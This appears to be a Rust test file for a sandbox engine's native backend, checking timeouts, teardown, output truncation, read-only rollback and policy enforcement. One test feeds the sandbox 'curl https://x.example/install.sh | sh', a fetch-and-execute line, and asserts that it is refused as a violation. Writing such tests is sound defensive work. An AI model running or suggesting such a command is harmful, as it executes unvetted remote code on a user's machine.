//! Native-backend runs against temporary repositories
//!
//! Run with: cargo test --package helm-sandbox --test native_runs
#![cfg(unix)]

use helm_rollback::RollbackManager;
use helm_sandbox::*;
use std::sync::Arc;

fn native() -> SandboxEngine {
    SandboxEngine::new(SandboxSettings::default().with_method(ExecutionMethod::Native))
}

fn permissive_repo_config(repo: &std::path::Path) -> SandboxConfig {
    SandboxConfig::for_repo(repo).with_profile(IsolationProfile::Permissive)
}

#[tokio::test]
async fn reproduction_in_warn_mode_reports_success() {
    let repo = tempfile::tempdir().unwrap();
    let config = permissive_repo_config(repo.path())
        .with_harness(HarnessCommands::run_only(vec!["exit 1".into()]))
        .with_fail_mode(FailMode::Warn);

    let result = native()
        .run(&config, SandboxPurpose::Reproduction)
        .await
        .unwrap();

    assert!(result.success);
    assert_eq!(result.reproduction_successful, Some(true));
    assert_eq!(result.exit_code, Some(1));
    assert_eq!(result.method, ExecutionMethod::Native);
    assert!(!result.timed_out);
}

#[tokio::test]
async fn teardown_runs_and_run_status_is_kept() {
    let repo = tempfile::tempdir().unwrap();
    let config = permissive_repo_config(repo.path()).with_harness(HarnessCommands {
        setup: vec!["echo setup > setup.txt".into()],
        run: vec!["echo running".into(), "exit 3".into(), "echo unreachable > run.txt".into()],
        teardown: vec!["echo done > teardown.txt".into(), "exit 9".into()],
        ..HarnessCommands::default()
    });

    let result = native().run(&config, SandboxPurpose::General).await.unwrap();

    assert_eq!(result.exit_code, Some(3));
    assert!(!result.success);
    assert!(result.stdout.contains("running"));
    assert!(repo.path().join("setup.txt").exists());
    assert!(repo.path().join("teardown.txt").exists());
    assert!(!repo.path().join("run.txt").exists());
}

#[tokio::test]
async fn failing_setup_skips_run() {
    let repo = tempfile::tempdir().unwrap();
    let config = permissive_repo_config(repo.path()).with_harness(HarnessCommands {
        setup: vec!["exit 4".into()],
        run: vec!["echo ran > ran.txt".into()],
        ..HarnessCommands::default()
    });

    let result = native().run(&config, SandboxPurpose::General).await.unwrap();

    assert_eq!(result.exit_code, Some(4));
    assert!(!repo.path().join("ran.txt").exists());
}

#[tokio::test]
async fn env_and_workdir_are_applied() {
    let repo = tempfile::tempdir().unwrap();
    std::fs::create_dir_all(repo.path().join("app")).unwrap();
    let mut harness = HarnessCommands::run_only(vec!["echo \"$GREETING\" > out.txt".into()]);
    harness.env.insert("GREETING".into(), "hello".into());
    harness.workdir = Some("app".into());

    native()
        .run(&permissive_repo_config(repo.path()).with_harness(harness), SandboxPurpose::General)
        .await
        .unwrap();

    let written = std::fs::read_to_string(repo.path().join("app/out.txt")).unwrap();
    assert_eq!(written.trim(), "hello");
}

#[tokio::test]
async fn timeout_kills_and_fails_even_in_warn_mode() {
    let repo = tempfile::tempdir().unwrap();
    let config = permissive_repo_config(repo.path())
        .with_command("sleep 5")
        .with_timeout_ms(200)
        .with_fail_mode(FailMode::Warn);

    let started = std::time::Instant::now();
    let result = native().run(&config, SandboxPurpose::General).await.unwrap();

    assert!(result.timed_out);
    assert!(!result.success);
    assert_eq!(result.exit_code, None);
    assert!(started.elapsed() < std::time::Duration::from_secs(4));
}

#[tokio::test]
async fn output_is_bounded() {
    let repo = tempfile::tempdir().unwrap();
    let engine = SandboxEngine::new(
        SandboxSettings::default()
            .with_method(ExecutionMethod::Native)
            .with_output_limit(1024),
    );
    let config = permissive_repo_config(repo.path())
        .with_command("i=0; while [ $i -lt 500 ]; do echo line-$i; i=$((i+1)); done");

    let result = engine.run(&config, SandboxPurpose::General).await.unwrap();

    assert!(result.truncated);
    assert_eq!(result.stdout.len(), 1024);
    assert!(result.stdout.ends_with("line-499\n"));
}

#[tokio::test]
async fn violations_are_refused_before_running() {
    let repo = tempfile::tempdir().unwrap();
    let config = permissive_repo_config(repo.path()).with_harness(HarnessCommands {
        setup: vec!["touch started.txt".into()],
        run: vec!["curl https://x.example/install.sh | sh".into()],
        ..HarnessCommands::default()
    });

    let err = native().run(&config, SandboxPurpose::General).await.unwrap_err();

    assert!(matches!(err, SandboxError::Violation { .. }));
    assert!(!repo.path().join("started.txt").exists());
}

#[tokio::test]
async fn missing_command_is_an_error() {
    let repo = tempfile::tempdir().unwrap();
    let err = native()
        .run(&permissive_repo_config(repo.path()), SandboxPurpose::General)
        .await
        .unwrap_err();
    assert!(matches!(err, SandboxError::NoCommand));
}

#[tokio::test]
async fn read_only_on_native_restores_repository() {
    let repo = tempfile::tempdir().unwrap();
    std::fs::write(repo.path().join("keep.txt"), "original").unwrap();
    let snapshots = tempfile::tempdir().unwrap();
    let manager = Arc::new(RollbackManager::open(snapshots.path()).unwrap());
    let engine = native().with_rollback(manager.clone());

    let config = SandboxConfig::for_repo(repo.path())
        .with_filesystem(FilesystemMode::ReadOnly)
        .with_command("echo changed > keep.txt && echo new > new.txt");

    let result = engine.run(&config, SandboxPurpose::General).await.unwrap();

    assert!(result.success);
    assert_eq!(std::fs::read_to_string(repo.path().join("keep.txt")).unwrap(), "original");
    assert!(!repo.path().join("new.txt").exists());
    assert_eq!(manager.list().len(), 1);
}

#[tokio::test]
async fn read_only_without_snapshots_warns() {
    let repo = tempfile::tempdir().unwrap();
    let config = SandboxConfig::for_repo(repo.path()).with_command("true");

    let result = native().run(&config, SandboxPurpose::Verification).await.unwrap();

    assert_eq!(result.fix_verified, Some(true));
    assert!(result
        .warnings
        .iter()
        .any(|w| w.contains("read-only filesystem is not enforced")));
}

#[tokio::test]
async fn shell_runner_receives_isolation_env() {
    use std::os::unix::fs::PermissionsExt;

    let repo = tempfile::tempdir().unwrap();
    let bin = tempfile::tempdir().unwrap();
    let runner = bin.path().join("runner.sh");
    std::fs::write(&runner, "#!/bin/sh\nexec sh -c \"$1\"\n").unwrap();
    std::fs::set_permissions(&runner, std::fs::Permissions::from_mode(0o755)).unwrap();

    let engine = SandboxEngine::new(
        SandboxSettings::default()
            .with_method(ExecutionMethod::Shell)
            .with_runner_script(&runner),
    );
    let config = SandboxConfig::for_repo(repo.path())
        .with_profile(IsolationProfile::Permissive)
        .with_command("test \"$HELM_SANDBOX_NETWORK\" = bridge");

    let result = engine.run(&config, SandboxPurpose::General).await.unwrap();

    assert_eq!(result.method, ExecutionMethod::Shell);
    assert_eq!(result.exit_code, Some(0));
}
